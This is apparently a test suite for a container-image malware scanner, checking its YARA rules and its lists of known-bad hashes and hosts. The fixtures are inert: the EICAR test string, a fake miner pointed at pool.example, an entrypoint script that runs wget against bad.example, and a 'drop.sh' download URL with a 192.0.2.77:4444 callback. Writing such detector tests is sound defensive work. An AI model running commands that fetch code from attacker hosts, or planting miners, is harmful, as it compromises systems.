import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { asObject, type JsonObject, parseJson } from '../src/base/json.ts';
import { buildImage, type ImageSpec } from './support/build-image.ts';
import { stringsElf } from './support/detector-case.ts';
import { fixturesRoot } from './support/project.ts';
import { type CliRun, runCli } from './support/run-cli.ts';
import { layout } from './support/scan-image.ts';
import { temporaryFolder } from './support/temporary-folder.ts';

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
const MINER = stringsElf(['stratum+tcp://pool.example:3333', '--donate-level=5']);
const RULES = join(fixturesRoot, 'rules');
const DPKG_STATUS = `Package: known
Status: install ok installed
Architecture: amd64
Version: 1.0
Maintainer: Nobody <nobody@distribution.example>
Description: a program
`;

const IMAGE: ImageSpec = {
  layers: [
    {
      'etc/os-release': 'ID=debian\nVERSION_ID="12"\n',
      'var/lib/dpkg/status': DPKG_STATUS,
      'var/lib/dpkg/info/known.list': '/.\n/usr\n/usr/bin\n/usr/bin/known\n',
      'var/lib/dpkg/info/known.md5sums': `${md5(MINER)}  usr/bin/known\n`,
      'usr/bin/known': { body: MINER, mode: 0o755 },
      'opt/tool': { body: MINER, mode: 0o755 },
      'opt/copy': { body: MINER, mode: 0o755 },
      'opt/eicar.com': EICAR,
      'tmp/update.sh': { body: '#!/bin/sh\nexit 0\n', mode: 0o755 },
    },
    { remove: ['opt/eicar.com'] },
  ],
};

test('rules of others: own, hidden and copied files are scanned, those of the distribution are not', async (context) => {
  const run = await scan(context, IMAGE, ['--rules', join(RULES, 'set'), '--format', 'json']);
  assert.match(run.stderr, /^5 rules of 5 files compiled in [\d.]+ s; 6 files scanned, /);
  const report = reportOf(run);
  const found = malware(report).map(({ rule, severity, hidden, title, evidence }) => ({
    rule,
    severity,
    hidden,
    title,
    paths: evidence.map(({ path }) => path),
  }));
  assert.deepEqual(found, [
    {
      rule: 'malware/yara:linux/miner:Inert_Miner',
      severity: 'high',
      hidden: undefined,
      title: '/opt/copy matches the YARA rule Inert_Miner: An inert stand-in for a miner',
      paths: ['/opt/copy', '/opt/tool'],
    },
    {
      rule: 'malware/yara:eicar:Standard_Test_File',
      severity: 'high',
      hidden: true,
      title:
        '/opt/eicar.com matches the YARA rule Standard_Test_File: The test file that every virus scanner knows, and that does nothing',
      paths: ['/opt/eicar.com'],
    },
    {
      rule: 'malware/yara:linux/names:Script_Called_Update',
      severity: 'medium',
      hidden: undefined,
      title:
        '/tmp/update.sh matches the YARA rule Script_Called_Update: A script by the name of update.sh in a temporary folder',
      paths: ['/tmp/update.sh'],
    },
    {
      rule: 'malware/yara:linux/same-name:Standard_Test_File',
      severity: 'low',
      hidden: true,
      title: '/opt/eicar.com matches the YARA rule Standard_Test_File',
      paths: ['/opt/eicar.com'],
    },
  ]);
  assert.ok(malware(report).every((finding) => finding.class === 'suspicious'));
  assert.match(
    malware(report)[1]?.evidence[0]?.excerpt ?? '',
    /\$text at 28: EICAR-STANDARD-ANTIVIRUS-TEST-FILE!; author: EICAR; reference: https:\/\/www\.eicar\.org/,
  );
  const problems = report.problems as readonly { code: string; message: string }[];
  assert.deepEqual(
    problems.filter(({ code }) => code === 'unreadable-rules').map(({ message }) => message.replace(/^.*\/rules/, '')),
    [
      '/set/linux/unfinished.yar does not compile, its rules were not used: unknown identifier `no_such_thing` (line 5)',
    ],
  );
});

test('rules that cannot be used end the scan before it begins', async (context) => {
  const broken = await scan(context, IMAGE, ['--rules', join(RULES, 'broken')]);
  assert.equal(broken.exitCode, 2);
  assert.match(broken.stderr, /only\.yar: unknown identifier/);
  const missing = await scan(context, IMAGE, ['--rules', '/no/such/rules']);
  assert.equal(missing.exitCode, 2);
  assert.match(missing.stderr, /there are no rules at \/no\/such\/rules/);
});

test('known-bad files are proof, wherever they lie', async (context) => {
  const list = listOf(context, [`${sha256(MINER)} made up miner`, `${sha256(Buffer.from(EICAR))}`]);
  const report = reportOf(await scan(context, IMAGE, ['--iocs', list, '--format', 'json']));
  const told = malware(report).map(
    (finding) => `${finding.class} ${[...new Set(finding.evidence.map(({ path }) => path))].join()}`,
  );
  assert.deepEqual(told.sort(), [
    'dual-use /usr/bin/known',
    'malicious /opt/copy',
    'malicious /opt/eicar.com',
    'malicious /opt/tool',
  ]);
  assert.ok(malware(report).every(({ rule }) => rule === 'malware/known-bad-file'));
  assert.equal((report.verdict as { decision: string }).decision, 'fail');
});

test('known-bad hosts: what starts names one, what lists them does not count', async (context) => {
  const list = listOf(context, ['bad[.]example', '192.0.2.77:4444', 'hxxp://files.example/drop.sh']);
  const image: ImageSpec = {
    layers: [
      {
        'bin/sh': { body: stringsElf(['sh']), mode: 0o755 },
        'entry.sh': { body: '#!/bin/sh\nHOST=bad.example\nexec wget http://cdn.$HOST/x\n', mode: 0o755 },
        'opt/agent': { body: stringsElf(['connect to 192.0.2.77:4444', 'x']), mode: 0o755 },
        'opt/other-port': {
          body: stringsElf(['connect to 192.0.2.77:443', 'notbad.example bad.example.org']),
          mode: 0o755,
        },
        'etc/blocked': '0.0.0.0 a.example\n0.0.0.0 bad.example\n0.0.0.0 c.example\n0.0.0.0 d.example\n',
        'usr/share/doc/x/README': 'We once saw bad.example do this.\n',
      },
    ],
    config: { Entrypoint: ['/entry.sh'], Env: ['MIRROR=http://files.example/drop.sh', 'OTHER=http://files.example/'] },
  };
  const report = reportOf(await scan(context, image, ['--iocs', list, '--format', 'json']));
  const told = malware(report).map(
    (finding) => `${finding.class} ${[...new Set(finding.evidence.map((one) => one.path ?? one.field))].join()}`,
  );
  assert.deepEqual(told.sort(), ['suspicious /entry.sh', 'suspicious /opt/agent', 'suspicious config.env.MIRROR']);
});

test('what worker threads read is looked at all the same', async (context) => {
  const list = listOf(context, ['bad.example', sha256(MINER)]);
  const image: ImageSpec = {
    layers: [
      { 'usr/lib/ballast': { body: randomBytes(3 << 20) }, 'opt/agent': stringsElf(['http://bad.example/']) },
      { 'opt/miner': { body: MINER, mode: 0o755 } },
    ],
  };
  const words = ['--iocs', list, '--rules', join(RULES, 'set/linux/miner.yara'), '--threads', '2', '--format', 'json'];
  const told = malware(reportOf(await scan(context, image, words))).map(({ rule, title }) => `${rule} ${title}`);
  assert.deepEqual(told.sort(), [
    'malware/known-bad-file File known to be bad: /opt/miner',
    'malware/known-bad-host Host known to be bad: /opt/agent',
    'malware/yara:miner:Inert_Miner /opt/miner matches the YARA rule Inert_Miner: An inert stand-in for a miner',
  ]);
});

test('other rules and other lists are another record, the same ones the same', async (context) => {
  const cache = temporaryFolder(context);
  const path = layout(context, buildImage(IMAGE));
  const words = (list: string): string[] => [
    'scan',
    `oci:${path}`,
    '--platform',
    'linux/amd64',
    '--cache-dir',
    cache,
    '--format',
    'json',
    '--iocs',
    list,
  ];
  const none = listOf(context, [sha256(Buffer.from('nothing'))]);
  const some = listOf(context, [sha256(MINER)]);
  assert.equal(malware(reportOf(await runCli(words(none)))).length, 0);
  assert.ok(malware(reportOf(await runCli(words(some)))).length > 0);
  assert.ok(malware(reportOf(await runCli(words(some)))).length > 0);
  assert.equal(malware(reportOf(await runCli(words(none)))).length, 0);
});

test('a list with a line that means nothing ends the scan', async (context) => {
  const run = await scan(context, IMAGE, ['--iocs', listOf(context, ['bad.example', '???'])]);
  assert.equal(run.exitCode, 2);
  assert.match(run.stderr, /list\.txt: line 2: "\?\?\?" is no hash, host, address or URL/);
});

interface Malware {
  readonly rule: string;
  readonly kind: string;
  readonly severity: string;
  readonly title: string;
  readonly class?: string;
  readonly hidden?: boolean;
  readonly evidence: readonly { readonly path?: string; readonly field?: string; readonly excerpt?: string }[];
}

function malware(report: JsonObject): Malware[] {
  return (report.findings as unknown as readonly Malware[]).filter(({ kind }) => kind === 'malware');
}

function reportOf(run: CliRun): JsonObject {
  assert.ok(run.stdout !== '', run.stderr);
  return asObject(parseJson(run.stdout)) ?? {};
}

function scan(context: TestContext, image: ImageSpec, words: readonly string[]): Promise<CliRun> {
  const path = layout(context, buildImage(image));
  return runCli(['scan', `oci:${path}`, '--no-cache', '--platform', 'linux/amd64', ...words]);
}

function listOf(context: TestContext, lines: readonly string[]): string {
  const path = join(temporaryFolder(context), 'list.txt');
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

function sha256(bytes: Uint8Array): string {
  return createHash('sha256').update(bytes).digest('hex');
}

function md5(bytes: Uint8Array): string {
  return createHash('md5').update(bytes).digest('hex');
}
